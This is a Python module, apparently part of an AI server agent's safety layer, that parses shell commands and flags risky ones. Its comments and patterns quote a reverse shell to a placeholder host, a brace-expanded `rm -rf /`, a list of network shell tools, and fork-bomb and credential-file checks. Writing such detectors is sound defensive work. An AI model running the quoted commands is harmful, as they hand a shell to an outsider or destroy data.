"""Walk the parsed command: every simple command, unwrapped, judged against the table.

The walk follows the shell: lists, pipelines, compound commands, functions, redirections,
substitutions. Each simple command is unwrapped (`sudo`, `env`, `sh -c`, `xargs`…) down to
the program that runs, which the table (`programs.py`) and its special modules judge. What
a pipeline feeds a shell is evaluated when it can be (`echo …`, `base64 -d`, `xxd -r`,
`rev`, `tr`, `printf '\\162…'`); code fed to a shell that cannot be seen is destructive.
Fail closed: a parse error is unknown, a program not in the table is unknown.
"""

from __future__ import annotations

import posixpath
import re
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from typing import TYPE_CHECKING

from vpsagent.outcomes import Risk
from vpsagent.safety import paths
from vpsagent.safety.model import CHANGE, DES, RO, UNKNOWN, Classification, Finding, Part, build
from vpsagent.safety.parse import SUBSTITUTIONS, Word, expand_braces, parse, text_of, words

if TYPE_CHECKING:
    from tree_sitter import Node

    from vpsagent.safety.scripts import ScriptSource

MAX_DEPTH = 8
MAX_SCRIPT_BYTES = 256 * 1024


@dataclass(frozen=True, slots=True)
class Feed:
    """What a command reads on stdin, as far as the command line says."""

    kind: str = "none"  # none (nothing redirected) | data (known bytes) | file (a path) | unseen
    data: bytes = b""  # for data: all of it; for unseen: the parts that can be seen (`(crontab -l; echo X)`)
    path: str = ""
    source: str = ""  # what produced it, for messages: "curl -s https://…"
    piped: bool = False  # a file that reaches stdin through a pipe (`cat F | sh`), not a redirection

    @staticmethod
    def of(data: bytes | None, source: str = "") -> Feed:
        return Feed("data", data) if data is not None else Feed("unseen", source=source)


NO_FEED = Feed()


@dataclass(frozen=True)
class Delegate:
    """A wrapper's answer: judge this command (argv or shell text) as what really runs."""

    argv: list[Word] | None = None
    code: str | None = None
    origin: str = ""
    floor: Finding | None = None  # the wrapper's own effect, judged too
    feed: Feed | None = None  # what the inner command reads (None: what the wrapper reads)


Outcome = Finding | Delegate


def short(text: str, n: int = 60) -> str:
    one = " ".join(text.split())
    return one if len(one) <= n else one[: n - 1] + "…"


@dataclass
class Call:
    """One program call as a handler sees it."""

    prog: str
    argv0: Word
    args: list[Word]
    feed: Feed
    an: Analyzer
    depth: int
    chain: tuple[str, ...] = ()

    @property
    def values(self) -> list[str]:
        return [w.value for w in self.args]

    def derive(self, args: list[Word]) -> Call:
        return replace(self, args=args)

    def shell(self, code: str, origin: str, feed: Feed = NO_FEED) -> Finding:
        """Judge shell text this program will run."""
        cls = self.an.nested(code, self.depth + 1, feed, spill=self.chain)
        return _finding_of(cls, origin, code)

    def shell_word(self, w: Word, origin: str) -> Finding:
        return self.shell(w.value, origin)

    def run_argv(self, argv: list[Word], origin: str) -> Finding:
        """Judge a command this program runs with exactly these words (no shell)."""
        if not argv:
            return Finding(RO, "")
        text = " ".join(w.value for w in argv)
        sub = self.an.child(self.depth + 1)
        sub.argv(argv, self.depth + 1, text, (), NO_FEED)
        self.an.parts.extend(Part(p.argv, p.risk, p.reason, p.text, (*self.chain, *p.programs)) for p in sub.parts)
        return _finding_of(build(text, sub.parts), origin, text)

    def script(self, path: Word, origin: str, language: str = "sh") -> Finding:
        return self.an.script_finding(path, origin, language, self.depth)

    def feed_code(self, origin: str, language: str = "sh") -> Finding:
        """Judge what this program reads on stdin as code."""
        return self.an.feed_finding(self.feed, origin, language, self.depth)

    def write(self, target: Word, what: str, content: bytes | None = None, *, append: bool = False) -> Finding:
        from vpsagent.safety.writes import judge_write

        return judge_write(target, what, content, append=append, an=self.an, depth=self.depth)


def _finding_of(cls: Classification, origin: str, code: str) -> Finding:
    if cls.risk is RO:
        return Finding(RO, "", cls.programs)
    return Finding(cls.risk, f"{origin} runs `{short(code)}`: {cls.summary}", cls.programs)


@dataclass
class Analyzer:
    """Collects the parts of one command line (and of the code it runs)."""

    scripts: ScriptSource | None = None
    parts: list[Part] = field(default_factory=list)
    functions: dict[str, str] = field(default_factory=dict)  # name -> body text
    aliases: set[str] = field(default_factory=set)  # names defined by `alias` in this command
    written: dict[str, bytes | None] = field(default_factory=dict)  # files this command writes a stream to
    vars: dict[str, str | None] = field(default_factory=dict)  # statically known variables
    cwd: str | None = None
    seen_scripts: frozenset[str] = frozenset()

    # ------------------------------------------------------------------ entry points

    def child(self, depth: int) -> Analyzer:
        return Analyzer(self.scripts, [], dict(self.functions), set(self.aliases), dict(self.written),
                        dict(self.vars), self.cwd, self.seen_scripts)

    def nested(self, code: str, depth: int, feed: Feed = NO_FEED, *, spill: tuple[str, ...] | None = None) -> Classification:
        """Classify code this command runs. With `spill` (the chain of programs that runs it),
        the inner commands also become parts of this command, so an allow rule for the outer
        program (`find *`, `git *`) never covers them: they need their own."""
        sub = self.child(depth)
        sub.run(code, depth, (), feed)
        if spill is not None:
            self.parts.extend(Part(p.argv, p.risk, p.reason, p.text, (*spill, *p.programs)) for p in sub.parts)
        return build(code, sub.parts)

    def add(self, argv: tuple[str, ...], finding: Finding, text: str, chain: tuple[str, ...] = ()) -> None:
        programs = tuple(dict.fromkeys((*chain, *finding.programs)))
        self.parts.append(Part(argv, finding.risk, finding.reason, text, programs))

    def run(self, text: str, depth: int, chain: tuple[str, ...] = (), feed: Feed = NO_FEED,
            origin: str = "the command") -> None:
        """Classify shell text; `chain` names the wrappers that run it (`sudo sh -c …`)."""
        if depth > MAX_DEPTH:
            self.add((), Finding(DES, f"{origin} nests too deeply to check"), text, chain)
            return
        root = parse(text).root_node
        if root.has_error or (";;" in text and _stray_case_end(root)):
            self.add((), Finding(UNKNOWN, f"cannot parse {origin}: {_error_hint(root)}; refusing to guess"), text, chain)
            self._recover(text, depth, chain)
        self.node(root, depth, chain, feed)

    def _recover(self, text: str, depth: int, chain: tuple[str, ...]) -> None:
        # `{rm,-rf,/}` is bash brace expansion into `rm -rf /`; tree-sitter reads `{` as a block
        stripped = text.strip()
        if stripped.startswith("{") and not re.search(r"[\s'\"]", stripped):
            expanded = expand_braces(stripped)
            if len(expanded) > 1:
                self.run(" ".join(expanded), depth + 1, chain, NO_FEED, "the brace expansion")

    # ------------------------------------------------------------------ the tree

    def node(self, n: Node, depth: int, chain: tuple[str, ...], feed: Feed) -> None:
        handler = _NODE_HANDLERS.get(n.type)
        if handler is not None:
            handler(self, n, depth, chain, feed)
            return
        if n.type in SUBSTITUTIONS:
            self.substitution(n, depth, chain)
            return
        for c in n.named_children:
            self.node(c, depth, chain, feed)

    def substitution(self, n: Node, depth: int, chain: tuple[str, ...]) -> None:
        if depth + 1 > MAX_DEPTH:
            self.add((), Finding(DES, "a command substitution nests too deeply to check"), text_of(n), chain)
            return
        for c in n.named_children:
            self.node(c, depth + 1, chain, NO_FEED)

    def skip(self, n: Node, depth: int, chain: tuple[str, ...], feed: Feed) -> None:
        return None

    def pipeline(self, n: Node, depth: int, chain: tuple[str, ...], feed: Feed) -> None:
        from vpsagent.safety.decode import output_of

        current = feed
        for child in n.named_children:
            if child.type == "comment":
                continue
            self.node(child, depth, chain, current)
            current = output_of(self, child, current)

    def redirected(self, n: Node, depth: int, chain: tuple[str, ...], feed: Feed) -> None:
        from vpsagent.safety.decode import output_of

        body = n.child_by_field_name("body")
        redirects = [c for c in n.named_children if c is not body]
        inner = self.input_of(redirects, depth, chain, feed)
        if body is not None:
            self.node(body, depth, chain, inner)
        content = output_of(self, body, inner) if body is not None else Feed("data", b"")
        self.writes(redirects, content, body, depth, chain)

    def input_of(self, redirects: list[Node], depth: int, chain: tuple[str, ...], feed: Feed) -> Feed:
        """The stdin a command's redirections give it (the last one wins, as in the shell)."""
        out = feed
        for r in redirects:
            for sub in _subs_in(r):
                self.substitution(sub, depth, chain)
            got = self._input(r)
            if got is not None:
                out = got
        return out

    def _input(self, r: Node) -> Feed | None:
        if r.type == "heredoc_redirect":
            # the body as written; with an unquoted delimiter `$X` stays as written (its
            # substitutions were classified on their own)
            body = next((c for c in r.children if c.type == "heredoc_body"), None)
            return Feed("data", text_of(body).encode() if body is not None else b"")
        if r.type == "herestring_redirect":
            target = next((c for c in r.named_children), None)
            if target is None:
                return None
            w = self.word(target)
            return Feed("unseen", source=f"<<< {w.value}") if w.dynamic else Feed("data", (w.value + "\n").encode())
        if r.type == "file_redirect" and _op(r) in ("<", "<&") and _fd(r) in ("", "0"):
            dest = r.child_by_field_name("destination")
            if dest is None:
                return None
            w = self.word(dest)
            if _op(r) == "<&":
                return None
            if w.procsub is not None:
                from vpsagent.safety.decode import output_of_procsub

                return output_of_procsub(self, w.procsub)
            if w.dynamic or w.value.startswith(("/dev/tcp/", "/dev/udp/")):
                return Feed("unseen", source=f"< {w.value}")
            return Feed("file", path=w.value)
        return None

    def writes(self, redirects: list[Node], content: Feed, body: Node | None, depth: int,
               chain: tuple[str, ...]) -> None:
        from vpsagent.safety.writes import judge_redirect

        for r in redirects:
            if r.type != "file_redirect":
                continue
            dest = r.child_by_field_name("destination")
            if dest is None:
                continue
            w = self.word(dest)
            if w.procsub is not None:
                self.substitution(w.procsub, depth, chain)
            op = _op(r)
            text = text_of(body) + " " + text_of(r) if body is not None else text_of(r)
            if w.value.startswith(("/dev/tcp/", "/dev/udp/")):
                self.add((op, w.value), _network_redirect(body, w.value), text, chain)
                continue
            if op in (">", ">|", "&>") and not w.dynamic:
                self.written[self.resolve(w.value)] = content.data if content.kind == "data" else None
            finding = judge_redirect(op, _fd(r), w, content, self, depth)
            if finding is not None:
                self.add((op, w.value), finding, text, chain)
            elif op == "<" and not w.dynamic and paths.names_credential(w.value):
                self.add((op, w.value), Finding(CHANGE, f"reads the credential file {w.value} (its contents would reach the model)"), text, chain)

    def function(self, n: Node, depth: int, chain: tuple[str, ...], feed: Feed) -> None:
        name_node = n.child_by_field_name("name")
        body = n.child_by_field_name("body")
        name = text_of(name_node) if name_node is not None else ""
        self.functions[name] = text_of(body) if body is not None else ""
        if body is not None and _calls(body, name):
            self.add((name,), Finding(DES, f"function {name} calls itself (a fork bomb pattern)"), text_of(n), chain)
        if body is not None:
            self.node(body, depth, chain, feed)

    def assignment(self, n: Node, depth: int, chain: tuple[str, ...], feed: Feed) -> None:
        from vpsagent.safety.special.environment import judge_assignment

        name, value = self._assigned(n, depth, chain)
        if not name:
            return
        known = value.value if value is not None and not value.dynamic else None
        self.vars[name] = known if name not in self.vars or self.vars[name] == known else None
        found = judge_assignment(name, value, self, depth)
        if found is not None:
            self.add((f"{name}=",), found, text_of(n), chain)

    def _assigned(self, n: Node, depth: int, chain: tuple[str, ...]) -> tuple[str, Word | None]:
        name_node = n.child_by_field_name("name")
        value_node = n.child_by_field_name("value")
        name = text_of(name_node) if name_node is not None else ""
        if value_node is None:
            return name, Word.plain("")
        for sub in _subs_in(value_node, include_self=True):
            self.substitution(sub, depth, chain)
        if value_node.type == "array":
            return name, Word("(…)", dynamic=True)
        return name, self.word(value_node)

    def declaration(self, n: Node, depth: int, chain: tuple[str, ...], feed: Feed) -> None:
        for c in n.named_children:
            if c.type == "variable_assignment":
                self.assignment(c, depth, chain, feed)
            else:
                for sub in _subs_in(c, include_self=True):
                    self.substitution(sub, depth, chain)

    def for_loop(self, n: Node, depth: int, chain: tuple[str, ...], feed: Feed) -> None:
        var = n.child_by_field_name("variable")
        if var is not None:
            self.vars[text_of(var)] = None
        for c in n.named_children:
            self.node(c, depth, chain, feed)

    # ------------------------------------------------------------------ simple commands

    def word(self, n: Node) -> Word:
        from vpsagent.safety.parse import word

        return word(n, self.vars.get)

    def command(self, n: Node, depth: int, chain: tuple[str, ...], feed: Feed) -> None:
        argv: list[Word] = []
        env: list[Node] = []
        redirects: list[Node] = []
        for c in n.named_children:
            if c.type == "variable_assignment":
                env.append(c)
            elif c.type in ("file_redirect", "heredoc_redirect", "herestring_redirect"):
                redirects.append(c)
            elif c.type == "command_name":
                argv.extend(w for child in c.named_children for w in words(child, self.vars.get))
            elif c.type != "comment":
                argv.extend(words(c, self.vars.get))
        for w in argv:
            for sub in w.subs:
                self.substitution(sub, depth, chain)
        text = text_of(n)
        if not argv:
            for a in env:
                self.assignment(a, depth, chain, feed)
            return
        for a in env:
            self._prefix_assignment(a, depth, chain, text)
        inner = self.input_of(redirects, depth, chain, feed) if redirects else feed
        self.argv(argv, depth, text, chain, inner)
        if redirects:
            from vpsagent.safety.decode import output_of

            self.writes(redirects, output_of(self, n, inner), n, depth, chain)

    def _prefix_assignment(self, a: Node, depth: int, chain: tuple[str, ...], text: str) -> None:
        """`VAR=value cmd`: the variable is set for cmd only; judge it, do not remember it."""
        from vpsagent.safety.special.environment import judge_assignment

        name, value = self._assigned(a, depth, chain)
        found = judge_assignment(name, value, self, depth) if name else None
        if found is not None:
            self.add((f"{name}=",), found, text, chain)

    def argv(self, argv: list[Word], depth: int, text: str, chain: tuple[str, ...], feed: Feed) -> None:
        """Judge one simple command (already split into words) and record it as a part."""
        from vpsagent.safety.dispatch import dispatch

        if not argv:
            what = f"{chain[-1]} without a command" if chain else "empty command"
            self.add(chain[-1:], Finding(RO, what), text, chain)
            return
        dispatch(self, argv, depth, text, chain, feed)

    # ------------------------------------------------------------------ scripts and stdin

    def script_finding(self, path: Word, origin: str, language: str, depth: int) -> Finding:
        from vpsagent.safety.scripts import judge_script_file

        return judge_script_file(self, path, origin, language, depth)

    def feed_finding(self, feed: Feed, origin: str, language: str, depth: int) -> Finding:
        from vpsagent.safety.scripts import judge_feed

        return judge_feed(self, feed, origin, language, depth)

    def resolve(self, path: str) -> str:
        """A path as the command names it, absolute when a `cd` before it makes that known."""
        p = paths.norm(path)
        if p.startswith("/") or self.cwd is None:
            return p
        return posixpath.normpath(posixpath.join(self.cwd, p))


def _error_hint(root: Node) -> str:
    from vpsagent.safety.parse import descendants

    for n in descendants(root):
        if n.type == ";;" and (n.parent is None or n.parent.type != "case_item"):
            return "';;' outside a case"
        if n.is_missing:
            return f"'{n.type}' missing"
        if n.type == "ERROR":
            return f"unexpected {short(text_of(n), 20)!r}"
    return "a syntax error"


_RUNS_INPUT = re.compile(r"^(.*/)?(sh|bash|dash|zsh|ksh|ash|mksh|busybox|python[\d.]*|perl|ruby|php|node|lua|nc|ncat|"
                         r"netcat|socat|telnet)$")


def _network_redirect(body: Node | None, target: str) -> Finding:
    """`bash -i >& /dev/tcp/HOST/PORT 0>&1` hands a shell to the network; `echo x > /dev/tcp/…` sends data."""
    prog = ""
    if body is not None and body.type == "command":
        name = body.child_by_field_name("name")
        prog = text_of(name) if name is not None else ""
    if _RUNS_INPUT.match(prog):
        return Finding(DES, f"{prog} is connected to {target}: a shell or interpreter driven from the network")
    return Finding(CHANGE, f"sends data to {target}")


def _stray_case_end(root: Node) -> bool:
    """`;;` outside a case item: bash rejects it, tree-sitter does not."""
    from vpsagent.safety.parse import descendants

    return any(n.type == ";;" and (n.parent is None or n.parent.type != "case_item") for n in descendants(root))


def _op(r: Node) -> str:
    for c in r.children:
        if not c.is_named:
            return c.type
    return ""


def _fd(r: Node) -> str:
    d = r.child_by_field_name("descriptor")
    return text_of(d) if d is not None else ""


def _subs_in(n: Node, include_self: bool = False) -> list[Node]:
    from vpsagent.safety.parse import descendants

    found = [n] if include_self and n.type in SUBSTITUTIONS else []
    found += [d for d in descendants(n) if d.type in SUBSTITUTIONS]
    return found


def _calls(body: Node, name: str) -> bool:
    from vpsagent.safety.parse import descendants

    for d in descendants(body):
        if d.type == "command_name" and text_of(d) == name:
            return True
    return False


_NODE_HANDLERS: dict[str, Callable[[Analyzer, Node, int, tuple[str, ...], Feed], None]] = {
    "comment": Analyzer.skip,
    "pipeline": Analyzer.pipeline,
    "redirected_statement": Analyzer.redirected,
    "command": Analyzer.command,
    "variable_assignment": Analyzer.assignment,
    "declaration_command": Analyzer.declaration,
    "function_definition": Analyzer.function,
    "for_statement": Analyzer.for_loop,
    "heredoc_start": Analyzer.skip,
    "heredoc_end": Analyzer.skip,
}


def classify_text(command: str, scripts: ScriptSource | None = None, depth: int = 0) -> Classification:
    an = Analyzer(scripts)
    an.run(command, depth)
    return build(command, an.parts)


def risk_of(command: str) -> Risk:
    return classify_text(command).risk
